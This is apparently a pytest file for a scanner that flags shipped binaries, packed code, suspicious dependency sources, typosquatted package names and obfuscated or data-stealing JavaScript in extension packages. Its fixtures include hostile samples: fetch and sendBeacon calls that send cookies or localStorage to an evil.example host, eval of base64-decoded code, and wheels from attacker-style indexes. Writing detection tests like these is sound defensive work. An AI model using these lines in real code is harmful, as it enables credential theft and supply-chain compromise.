"""File-level rules (shipped binaries, packed code), dependencies and JavaScript, positive and negative."""

from __future__ import annotations

import pytest

from functions.scanner import Severity
from functions.scanner.rules.typosquat import one_edit_apart, typosquat_of
from tests.scanner.support import INIT, assert_quiet, assert_rule, findings, severities

PE = bytearray(256)
PE[0:2], PE[0x3C:0x40], PE[0x80:0x84] = b"MZ", (0x80).to_bytes(4, "little"), b"PE\0\0"


# Shipped binaries and packed code ------------------------------------------------------------------------------


def test_native_binaries() -> None:
    assert severities({"bin/tool": b"\x7fELF\x02\x01\x01" + bytes(60)}, "NATIVE-BINARY") == {"critical"}
    assert severities({"lib/x.so": b"\x7fELF\x02\x01\x01" + bytes(60)}, "NATIVE-BINARY") == {"high"}
    assert severities({"web/lib/a.dll": bytes(PE)}, "NATIVE-BINARY") == {"high"}
    assert severities({"models/m.bin": bytes(PE)}, "NATIVE-BINARY") == {"critical"}
    assert severities({"x.dylib": b"\xcf\xfa\xed\xfe" + bytes(60)}, "NATIVE-BINARY") == {"high"}
    assert severities({"ext.pyd": b"not really"}, "NATIVE-BINARY") == {"high"}
    assert severities({"fat": b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(56)}, "NATIVE-BINARY") == {"critical"}


def test_data_files_are_not_binaries() -> None:
    files = {
        "web/lib/codec.wasm": b"\x00asm\x01\x00\x00\x00" + bytes(40),
        "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40),  # a Java class, not a fat Mach-O
        "models/m.safetensors": b"\x08\x00\x00\x00\x00\x00\x00\x00{}" + bytes(40),
        "data/x.npy": b"\x93NUMPY\x01\x00" + bytes(40),
        "readme.txt": b"MZ is the name of a band",
    }
    assert_quiet(files, "NATIVE-BINARY")


def test_packed_code() -> None:
    unchecked = (3495).to_bytes(2, "little") + b"\r\n" + (1).to_bytes(4, "little") + bytes(40)
    assert severities({"__pycache__/n.cpython-311.pyc": unchecked}, "PACKED-CODE") == {"high"}
    timestamped = (3495).to_bytes(2, "little") + b"\r\n" + bytes(44)
    assert severities({"__pycache__/n.cpython-311.pyc": timestamped}, "PACKED-CODE") == {"low"}
    assert severities({"n.pyc": timestamped}, "PACKED-CODE") == {"medium"}
    assert severities({"wheels/x-1.0-py3-none-any.whl": b"PK"}, "PACKED-CODE") == {"medium"}
    assert severities({"assets/fonts.zip": b"PK"}, "PACKED-CODE") == {"low"}
    assert severities({"a.py": "from .pyarmor_runtime_000000 import __pyarmor__"}, "PACKED-CODE") == {"medium"}


# Dependencies --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("openai @ https://github.com/fork/openai/releases/download/v1/openai-1.30.2-py3-none-any.whl", "high"),
        ("https://files.evil.example/anthropic-0.26.1-py3-none-any.whl", "high"),
        ("transformers @ git+https://github.com/not-hf/transformers", "high"),
        ("transformers @ git+https://github.com/huggingface/transformers", "medium"),
        ("git+https://github.com/openai/CLIP.git", "medium"),
        (
            "insightface @ https://github.com/Gourieff/Assets/raw/main/insightface-0.7.3-cp310-cp310-win_amd64.whl",
            "medium",
        ),
        ("-e git+https://gitlab.com/a/b.git#egg=b", "medium"),
        ("mypkg @ http://10.0.0.5/mypkg.tar.gz", "high"),
        ("mypkg @ https://1.2.3.4/mypkg.tar.gz", "high"),
        ("./wheels/local-1.0-py3-none-any.whl", "low"),
        ("-e .", "low"),
    ],
)
def test_url_dependencies(line: str, severity: str) -> None:
    assert severities({"requirements.txt": line + "\n"}, "DEP-URL") == {severity}


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("--extra-index-url https://pkgs.evil.example/simple", "high"),
        ("--index-url=http://1.2.3.4/simple", "high"),
        ("-f https://wheels.evil.example/", "high"),
        ("--trusted-host pkgs.evil.example", "medium"),
        ("-i http://mirrors.aliyun.com/pypi/simple/", "low"),
    ],
)
def test_index_options(line: str, severity: str) -> None:
    assert severities({"requirements.txt": line + "\n"}, "DEP-INDEX") == {severity}


def test_common_requirements_are_fine() -> None:
    text = (
        "# the usual\n--extra-index-url https://download.pytorch.org/whl/cu121\ntorch>=2.1\ntorchvision\n"
        "numpy<2 ; python_version < '3.12'\nopencv-python-headless\nPillow>=10\nhuggingface_hub[cli]\n"
        "scikit-image\nonnxruntime-gpu\nsegment_anything\nGitPython\nfind-links-free-pkg==1.0 \\\n  --hash=sha256:00\n"
        "-f https://data.pyg.org/whl/torch-2.1.0+cu121.html\n-r requirements-extra.txt\n"
    )
    for rule in ("DEP-URL", "DEP-INDEX", "DEP-TYPOSQUAT"):
        assert_quiet({"requirements.txt": text}, rule)


@pytest.mark.parametrize(
    "name",
    [
        "reqeusts",
        "numpyy",
        "opencv-pyhton",
        "pilllow",
        "python-opencv",
        "torchvison",
        "transfomers",
        "diffuser",
        "safetensor",
        "r3quests",
    ],
)
def test_typosquats(name: str) -> None:
    assert severities({"requirements.txt": f"{name}>=1.0\n"}, "DEP-TYPOSQUAT") == {"high"}


def test_typosquat_helpers() -> None:
    assert (
        one_edit_apart("requests", "reqeusts")
        and one_edit_apart("numpy", "numpyy")
        and one_edit_apart("torch", "troch")
    )
    assert not one_edit_apart("torch", "torch") and not one_edit_apart("numpy", "numba")
    assert typosquat_of("Pillow") is None and typosquat_of("scikit_image") is None and typosquat_of("tqdm") is None
    assert typosquat_of("scapy") is None and typosquat_of("tensorboardX") is None  # real near neighbours
    assert typosquat_of("opencvpython") == "opencv-python"


def test_pyproject_dependencies() -> None:
    pyproject = (
        "[project]\nname = 'x'\ndependencies = ['torch', 'reqeusts', 'openai @ https://evil.example/openai-1.0-py3-none-any.whl']\n"
        "[project.optional-dependencies]\ngpu = ['xformers']\n"
        "[tool.uv.sources]\nmylib = { git = 'https://git.evil.example/mylib' }\n"
        "[[tool.uv.index]]\nurl = 'https://pkgs.evil.example/simple'\n"
    )
    found = {(f.rule, f.severity.value) for f in findings(INIT | {"pyproject.toml": pyproject})}
    assert {("DEP-TYPOSQUAT", "high"), ("DEP-URL", "high"), ("DEP-INDEX", "high")} <= found
    assert ("SCAN-INCOMPLETE", "low") in {(f.rule, f.severity.value) for f in findings(INIT | {"pyproject.toml": "[x"})}
    honest = "[project]\nname = 'x'\ndependencies = ['numpy', 'torch>=2']\n[tool.comfy]\nPublisherId = 'me'\n"
    assert not findings(INIT | {"pyproject.toml": honest})


def test_typosquat_in_pip_from_code() -> None:
    code = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'reqeusts'])"
    assert_rule({"install.py": code}, "DEP-TYPOSQUAT", "high")


# JavaScript ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "eval(atob('Y29uc29sZS5sb2coMSk='))",
        "new Function(window.atob(payload))()",
        "const s = atob(x); eval(s);",
        "eval(String.fromCharCode(97, 108, 101, 114, 116))",
        "document.write(unescape('%3Cscript%3E'))",
        "eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')",
    ],
)
def test_javascript_running_encoded_code(code: str) -> None:
    assert_rule({"web/x.js": code}, "JS-EVAL-ENCODED", "critical")


def test_javascript_bundles_are_fine() -> None:
    bundle = (
        'var g=Function("return this")();function c(n){return new Function("x","return ("+n+")")}'
        "function r(s){return eval(s)}var b=atob(dataUrl.split(',')[1]);setTimeout(tick,0);"
    )
    assert not {f for f in findings(INIT | {"web/lib/b.min.js": bundle}) if f.severity.rank >= Severity.MEDIUM.rank}
    assert severities({"web/x.js": "setTimeout('run()', 10)"}, "JS-EVAL-ENCODED") == {"medium"}


def test_javascript_token_grabs() -> None:
    grab = "fetch('https://c.evil.example/x', {method: 'POST', body: document.cookie})"
    assert_rule({"web/x.js": grab}, "JS-TOKEN-EXFIL", "high")
    dump = "navigator.sendBeacon('https://c.evil.example/x', JSON.stringify(localStorage))"
    assert_rule({"web/x.js": dump}, "JS-TOKEN-EXFIL", "high")
    assert_rule({"web/x.js": "console.log(document.cookie)"}, "JS-TOKEN-EXFIL", "medium")
    honest = (
        "const size = localStorage.getItem('Comfy.Size');\nlocalStorage.setItem('Comfy.Size', 3);\n"
        "if ('Comfy.Size' in localStorage) {}\nfetch('/api/history');\nfetch('https://api.github.com/repos/a/b');\n"
        "document.cookie = 'theme=dark';\n"
    )
    assert_quiet({"web/x.js": honest}, "JS-TOKEN-EXFIL")


def test_javascript_remote_code() -> None:
    assert_rule({"web/x.js": "const m = await import('https://cdn.example.com/m.js')"}, "JS-REMOTE-CODE", "medium")
    assert_rule({"web/x.html": '<script src="https://cdn.example.com/x.js"></script>'}, "JS-REMOTE-CODE", "medium")
    assert_quiet(
        {"web/x.js": "import { app } from '../../scripts/app.js';\nconst m = await import('./local.js')"},
        "JS-REMOTE-CODE",
    )


def test_local_and_scp_like_dependencies() -> None:
    assert severities({"requirements.txt": "mylib @ file:///opt/wheels/mylib-1.0.tar.gz\n"}, "DEP-URL") == {"low"}
    assert severities({"requirements.txt": "git+git@github.com:someone/tool.git\n"}, "DEP-URL") == {"medium"}
    assert severities({"data/features.pkg": b"\x80\x04pickled"}, "NATIVE-BINARY") == set()
